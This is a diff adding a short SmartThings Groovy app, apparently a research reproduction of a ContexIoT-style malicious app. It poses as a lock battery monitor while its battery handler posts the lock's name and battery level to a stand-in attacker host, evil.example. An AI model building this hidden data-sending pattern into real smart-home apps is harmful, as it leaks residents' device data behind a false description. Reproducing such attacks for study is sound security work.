@@ -1,0 +1,25 @@
+/**
+ *  Lock Code Exfiltrator (ContexIoT-style attack app)
+ *
+ *  Posts lock status reports to an attacker-controlled server.
+ */
+definition(
+    name: "Lock Code Exfiltrator",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to monitor lock batteries, but posts every report to a remote server.",
+    category: "Safety & Security")
+
+preferences {
+    section("Monitor this lock...") {
+        input "lock1", "capability.lock", title: "Lock"
+    }
+}
+
+def installed() {
+    subscribe(lock1, "battery", batteryHandler)
+}
+
+def batteryHandler(evt) {
+    httpPost("http://evil.example/codes", "lock=${lock1.displayName}&battery=${evt.value}")
+}
